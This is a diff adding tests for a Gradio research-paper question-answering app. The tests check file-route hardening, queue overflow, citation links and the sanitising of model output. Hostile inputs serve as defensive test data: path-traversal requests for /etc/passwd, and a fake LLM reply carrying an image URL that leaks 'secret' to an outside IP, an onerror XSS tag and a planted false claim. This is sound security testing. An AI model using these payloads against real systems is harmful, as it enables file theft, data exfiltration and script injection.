@@ -20,6 +20,7 @@ from gradio_client import Client
 from gradio_client.exceptions import AppError
 
 from conftest import ROOT, free_port, wait_http
+from fault_server import Body, FaultServer, Reply, messages_text
 from rag.answer import Pipeline, QuestionError, validate_question
 from rag.settings import Settings
 from ui import render
@@ -113,6 +114,39 @@ def test_app_is_safe_by_default(app: tuple[object, str], pipeline: Pipeline) -> 
     assert demo._queue.default_concurrency_limit == pipeline.settings.concurrency
 
 
+@pytest.mark.parametrize("route", [
+    "/gradio_api/file=/etc/passwd", "/gradio_api/file=../../../etc/passwd",
+    "/gradio_api/file={index}/chroma/chroma.sqlite3", "/gradio_api/file={root}/corpus/papers.jsonl",
+    "/gradio_api/file=corpus/papers.jsonl",
+])
+def test_file_routes_refuse_local_files(app: tuple[object, str], index_dir: Path, route: str) -> None:
+    import httpx
+
+    url = app[1].rstrip("/") + route.format(index=index_dir, root=ROOT)
+    assert httpx.get(url, timeout=10).status_code in {403, 404}
+
+
+def test_queue_overflow_is_a_clear_busy_error(index_dir: Path) -> None:
+    settings = Settings(data_dir=index_dir, queue_size=1, concurrency=1)
+    demo = build_app(Pipeline(settings), settings)
+    port = free_port()
+    demo.launch(prevent_thread_lock=True, server_name="127.0.0.1", server_port=port, quiet=True)
+    try:
+        client = Client(f"http://127.0.0.1:{port}/", verbose=False)
+        jobs = [client.submit(f"What is 2BP? ({i})", api_name="/ask") for i in range(8)]
+        ok, busy = 0, []
+        for job in jobs:
+            try:
+                ok += bool(job.result(timeout=120)["answer"])
+            except Exception as exc:  # noqa: BLE001 - gradio_client's error types vary by version
+                busy.append(str(exc))
+        assert ok >= 1 and busy, (ok, busy)
+        assert all("queue is full" in b.lower() for b in busy), busy
+        assert client.predict("What is 2BP?", api_name="/ask")["answer"]  # still serving
+    finally:
+        demo.close()
+
+
 def test_import_rag_does_not_import_gradio() -> None:
     code = "import rag, rag.answer, rag.cli, sys; assert 'gradio' not in sys.modules, 'gradio imported'"
     subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT, timeout=120)
@@ -132,12 +166,20 @@ def test_chat_streams_answer_sources_and_export(pipeline: Pipeline) -> None:
     chat, turns, sources, _, export, _, status = updates[-1]
     assert status == "" and len(turns) == 1 and len(chat) == 2
     bubble = chat[-1]["content"]
-    assert "1.78" in bubble and re.search(r'<a class="pc-cite" href="#src-0-\d+"', bubble)
-    n = int(re.search(r'href="#src-0-(\d+)"', bubble).group(1))
+    link = re.search(r"\[\[(\d+)\]\]\(#src-0-(\d+)\)", bubble)
+    assert "1.78" in bubble and link and link.group(1) == link.group(2), bubble
+    n = int(link.group(1))
     card = re.search(rf'<div class="pc-src" id="src-0-{n}">.*?</div></div>', sources, re.S).group(0)
     assert re.search(r'<mark class="pc-hl">[^<]*1\.78x', card), card
     text = Path(export.value["path"]).read_text(encoding="utf-8")
     assert "1.78" in text and "## References" in text and f"[{n}] Seesaw" in text
+
+
+def test_chat_scope_and_passage_count_reach_the_pipeline(pipeline: Pipeline) -> None:
+    *_, turns = run_chat(ChatHandlers(pipeline, pipeline.settings), "What throughput gains are reported?",
+                         scope=["2bp"], k=2)[-1][:2]
+    assert turns[0].sources and {s.paper_id for s in turns[0].sources} == {"2bp"}
+    assert len(turns[0].sources) <= 2
 
 
 def test_chat_abstains_visibly_with_suggestions(pipeline: Pipeline) -> None:
@@ -149,6 +191,16 @@ def test_chat_abstains_visibly_with_suggestions(pipeline: Pipeline) -> None:
     assert "Closest papers" in sources
     assert suggest.visible and suggest.raw_samples
     assert all(s[0].startswith("What is ") for s in suggest.raw_samples)
+
+
+def test_follow_up_after_abstention_is_not_about_the_closest_papers(pipeline: Pipeline) -> None:
+    handlers = ChatHandlers(pipeline, pipeline.settings)
+    _, turns, *_ = run_chat(handlers, "What does the Chinchilla paper say about compute-optimal training?")[-1]
+    assert turns[0].abstained and turns[0].closest_papers
+    _, turns, *_ = run_chat(handlers, "and what is its main result?", turns)[-1]
+    closest = {p.id: p for p in pipeline.papers()}
+    named = [render.label(closest[p]) for p in turns[0].closest_papers]
+    assert not any(name in turns[1].standalone_question for name in named), turns[1].standalone_question
 
 
 def test_chat_bad_question_keeps_chat_and_says_why(pipeline: Pipeline) -> None:
@@ -178,13 +230,37 @@ def test_unreachable_llm_shows_notice_and_extractive_answer(index_dir: Path) -> 
     assert 'class="pc-notice"' in chat[-1]["content"] and "1.78" in chat[-1]["content"]
 
 
+def hostile_llm_reply(body: Body) -> str:
+    """A model answer with one supported sentence, an exfiltrating image, raw HTML and one made-up claim."""
+    passages = re.findall(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', messages_text(body, "user"), re.S)
+    n = next(n for n, text in passages if "1.78x" in text)
+    return (f"Seesaw achieves a throughput increase of up to 1.78x (1.36x on average) compared to vLLM [{n}]. "
+            f"The moon is made of green cheese and Seesaw was trained on it [{n}]. "
+            f'![x](http://198.51.100.7/leak.png?q=secret) <img src=x onerror="alert(1)">')
+
+
+def test_llm_answer_streams_and_marks_unsupported_sentences(index_dir: Path) -> None:
+    with FaultServer(default=Reply(text=hostile_llm_reply, chunks=8)) as llm:
+        settings = Settings(data_dir=index_dir, llm_base_url=llm.url, llm_api_key="sk-test", llm_timeout=5)
+        updates = run_chat(ChatHandlers(Pipeline(settings), settings), SEESAW_Q, answerer="openai")
+    partial = [u[0][-1]["content"] for u in updates[:-1] if "Searching" not in u[0][-1]["content"]]
+    assert len(partial) >= 3 and len(set(partial)) >= 3, "the answer grows in several steps"
+    chat, turns, *_ = updates[-1]
+    bubble = chat[-1]["content"]
+    assert turns[0].answerer == "openai"
+    assert "198.51.100.7" not in bubble and "secret" not in bubble and "<img" not in bubble and "&lt;img" in bubble
+    flagged = re.findall(r'<span class="pc-unsup"[^>]*>(.*?)</span>', bubble)
+    assert any("green cheese" in f for f in flagged), bubble
+    assert not any("1.78x" in f for f in flagged), bubble
+
+
 def test_follow_up_in_chat_shows_rewritten_question(pipeline: Pipeline) -> None:
     handlers = ChatHandlers(pipeline, pipeline.settings)
     _, turns, *_ = run_chat(handlers, "What is Universal Checkpointing?")[-1]
     chat, turns, *_ = run_chat(handlers, "and what are its two mechanisms?", turns)[-1]
     assert len(turns) == 2 and 'class="pc-caption"' in chat[-1]["content"]
     assert "Universal Checkpointing" in chat[-1]["content"].split("</span>")[0]
-    assert 'href="#src-1-' in chat[-1]["content"]  # second turn's citations point at its own cards
+    assert "](#src-1-" in chat[-1]["content"]  # second turn's citations point at its own cards
 
 
 # -- rendering: model and passage text can never become markup ------------------------------------------------
@@ -209,7 +285,7 @@ def test_clean_model_text(text: str, absent: list[str], present: list[str]) -> N
 
 def test_citations_link_only_to_local_anchors() -> None:
     out = render.link_citations(render.clean_model_text("A claim [2]. Another [3] [x](http://a.b)."), turn=4)
-    assert re.findall(r'href="([^"]*)"', out) == ["#src-4-2", "#src-4-3"]
+    assert re.findall(r"\]\(([^)]*)\)", out) == ["#src-4-2", "#src-4-3"]
 
 
 def test_sources_panel_escapes_passages(pipeline: Pipeline) -> None:
